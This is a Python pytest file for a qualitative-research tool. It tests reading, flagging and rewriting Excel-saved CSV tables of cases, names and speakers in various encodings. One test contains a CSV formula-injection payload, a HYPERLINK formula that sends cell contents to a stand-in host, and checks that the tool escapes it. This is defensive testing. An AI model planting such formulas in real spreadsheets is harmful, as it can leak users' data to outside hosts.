"""Tables that Excel saved: read in its encodings and separators, told of, written back as UTF-8."""

from pathlib import Path

import pytest

from qualcode.model.case import Case
from qualcode.store.records.cases import read_cases
from qualcode.store.records.real_names import read_names
from qualcode.store.study import Study
from qualcode.workbench.check.study import check_study
from tests.conftest import Run

#: As Excel saves tables in one country and another: "CSV", "Unicode text", "CSV UTF-8".
FORMS = [
    (";", "cp1252", "Windows-1252", "warning"),
    ("\t", "utf-16", "UTF-16", "note"),
    (";", "utf-8-sig", "semicolons", "note"),
]


def told(study: Path, name: str) -> list[tuple[str, str]]:
    return [
        (p.level, p.message)
        for p in check_study(Study.open(study))
        if p.code == "saved-otherwise" and p.where == name
    ]


@pytest.mark.parametrize(("separator", "encoding", "said", "level"), FORMS)
def test_cases_saved_by_excel_are_read_and_written_back(
    study_path: Path, run: Run, tmp_path: Path, separator: str, encoding: str, said: str, level: str
):
    path = study_path / "cases.csv"
    rows = (("case", "group", "role"), ("YP1", "yp", "élève à l’école"))
    path.write_bytes("".join(f"{separator.join(row)}\r\n" for row in rows).encode(encoding))
    assert read_cases(path)["YP1"].attributes == {"group": "yp", "role": "élève à l’école"}
    assert [(level, True)] == [(one, said in words) for one, words in told(study_path, "cases.csv")]
    listed = run("-C", study_path, "cases")
    assert listed.status == 0
    assert listed.err.count("cases.csv") == 1
    assert said in listed.err
    assert "élève" in listed.out
    more = tmp_path / "two.txt"
    more.write_text("Interviewer: How was it?\n\nYP2: It was all right in the end.\n", "utf-8")
    made = run("-C", study_path, "import", more, "--case", "YP2", "--group", "yp")
    assert made.status == 0, made.err
    assert made.err.count("cases.csv") == 1
    assert "UTF-8 with commas again" in made.err
    text = path.read_bytes().decode("utf-8")
    assert text.startswith("\ufeffcase,group,role\n")
    assert "YP1,yp,élève à l’école\n" in text
    assert told(study_path, "cases.csv") == []


@pytest.mark.parametrize("above", ["\r\n", ";;;\r\n\r\n", "sep=;;;\r\n"])
def test_cases_below_an_empty_row_are_read_and_written_back(study_path: Path, run: Run, above: str):
    path = study_path / "cases.csv"
    path.write_bytes(f"{above}Case;Group;Role;;\r\nYP1;yp;teacher;;\r\nYP2;yp;;;\r\n".encode())
    cases = read_cases(path)
    assert cases["YP1"].attributes == {"group": "yp", "Role": "teacher"}
    assert [*cases] == ["YP1", "YP2"]
    [(level, words)] = told(study_path, "cases.csv")
    assert level == "note"
    assert "Group" in words
    study = Study.open(study_path)
    study.edit_cases(lambda cases: [*cases.values(), Case("YP3", {})])
    assert path.read_bytes().decode("utf-8-sig").startswith("case,group,Role\nYP1,yp,teacher\n")
    assert told(study_path, "cases.csv") == []


@pytest.mark.parametrize(
    ("table", "where", "said"),
    [
        ("case,group,role,role\nYP1,yp,a,b\n", "cases.csv:1", "two columns are named 'role'"),
        ("case,group,\nYP1,yp,ask Mr Rees\n", "cases.csv:2", "a column without a heading"),
    ],
)
def test_no_cell_of_the_table_of_cases_is_left_out_in_silence(
    study_path: Path, table: str, where: str, said: str
):
    (study_path / "cases.csv").write_text(table)
    [problem] = [p for p in check_study(Study.open(study_path)) if p.code == "bad-cases"]
    assert problem.where == where
    assert said in problem.message


def test_welsh_in_the_table_of_cases_is_marked_for_excel(study_path: Path):
    study = Study.open(study_path)
    study.edit_cases(lambda cases: [*cases.values(), Case("YP9", {"role": "gŵr o’r Tŷ"})])
    data = (study_path / "cases.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert "gŵr o’r Tŷ" in data.decode("utf-8")


def test_names_saved_by_excel_are_known_and_told(study_path: Path, run: Run):
    path = study_path / "private" / "names.csv"
    path.parent.mkdir(exist_ok=True)
    path.write_bytes("name;kind;replacement\r\nSiân Évans;person;[friend]\r\n".encode("cp1252"))
    assert [(n.name, n.replacement) for n in read_names(study_path)] == [("Siân Évans", "[friend]")]
    assert [level for level, _ in told(study_path, "private/names.csv")] == ["warning"]
    listed = run("-C", study_path, "names", "table")
    assert "Siân Évans" in listed.out
    assert listed.err.count("private/names.csv") == 1
    assert run("-C", study_path, "names", "keep", "Estyn").status == 0
    assert "Siân Évans,person,[friend]" in path.read_bytes().decode("utf-8-sig")
    assert told(study_path, "private/names.csv") == []


def test_a_table_of_speakers_saved_by_excel_is_read(study_path: Path, run: Run, tmp_path: Path):
    talk = tmp_path / "three.txt"
    talk.write_text("Zoë: How was it?\n\nSiân: It was all right.\n\n" * 3, "utf-8")
    table = tmp_path / "who.csv"
    table.write_bytes(
        "file;label;case;role\r\nthree.txt;Siân;YP3;\r\nthree.txt;Zoë;;interviewer\r\n".encode(
            "cp1252"
        )
    )
    made = run("-C", study_path, "import", talk, "--speakers", table)
    assert made.status == 0, made.err
    assert "who.csv" in made.err
    assert "YP3" in read_cases(study_path / "cases.csv")


def test_a_sheet_of_names_comes_back_as_it_went_whoever_saved_it(
    study_path: Path, run: Run, tmp_path: Path
):
    from qualcode.store.io.tables import table_in, table_text
    from qualcode.workbench.privacy.name_sheet import COLUMNS, take_sheet

    rows = [COLUMNS, ("yes", "[a]", "'n Hywel", *[""] * 6), ("yes", "[b]", "=1+1 Bevan", *[""] * 6)]
    sheet = table_in(table_text(rows).encode(), "sheet.csv", COLUMNS)
    assert take_sheet(Study.open(study_path), sheet, "sheet.csv") == (2, 0)
    assert [n.name for n in read_names(study_path)] == ["'n Hywel", "=1+1 Bevan"]


def test_formulas_in_speakers_and_cases_run_in_no_spreadsheet(
    study_path: Path, run: Run, tmp_path: Path
):
    formula = '=HYPERLINK("http://x/?"&A1,"click")'
    talk = tmp_path / "evil.csv"
    quoted = formula.replace('"', '""')
    talk.write_text(
        f'speaker,text\n"{quoted}",It was long ago.\nInterviewer,Why?\n"{quoted}",I know not.\n'
    )
    assert run("-C", study_path, "import", talk).status == 0
    private = (study_path / "private" / "speakers.csv").read_text("utf-8-sig")
    assert "'=HYPERLINK" in private
    assert ",=HYPERLINK" not in private
    assert ',"=HYPERLINK' not in private


def test_a_merge_driver_reads_what_excel_saved(study_path: Path, tmp_path: Path):
    from qualcode.cli.merging import main

    texts = {
        "base": "case,group,role\nYP1,yp,élève\n".encode(),
        "ours": "case;group;role\r\nYP1;yp;élève\r\nYP2;yp;\r\n".encode("cp1252"),
        "theirs": "\ufeffcase,group,role\nYP1,yp,élève\nYP3,yp,\n".encode(),
    }
    for name, data in texts.items():
        (tmp_path / name).write_bytes(data)
    assert main(["cases", *(str(tmp_path / name) for name in texts), "cases.csv"]) == 0
    merged = (tmp_path / "ours").read_bytes().decode("utf-8")
    assert merged == "\ufeffcase,group,role\nYP1,yp,élève\nYP2,yp,\nYP3,yp,\n"


@pytest.mark.parametrize(
    ("table", "row", "said"),
    [
        ("Full name,Replacement\nMair Glas,[friend]\n", 1, "no column 'name'"),
        ("People we met\n\nname,kind\nMair Glas,person\n", 3, "headings stand in row 3"),
    ],
)
def test_a_table_of_names_without_its_headings_is_no_plain_list(
    study_path: Path, run: Run, table: str, row: int, said: str
):
    path = study_path / "private" / "names.csv"
    path.parent.mkdir(exist_ok=True)
    path.write_text(table)
    listed = run("-C", study_path, "names", "table")
    assert listed.status == 1
    assert f"private/names.csv:{row}" in listed.err
    assert said in listed.err
    path.write_text("Mair Glas\nJohn Keep\n")
    assert [n.name for n in read_names(study_path)] == ["Mair Glas", "John Keep"]


def test_one_of_a_thing_is_told_in_the_singular(study_path: Path, run: Run):
    (study_path / "cases.csv").write_text("code,group\nYP1,yp\n")
    checked = run("-C", study_path, "check")
    assert "1 error, " in checked.out + checked.err
    assert "1 errors" not in checked.out + checked.err
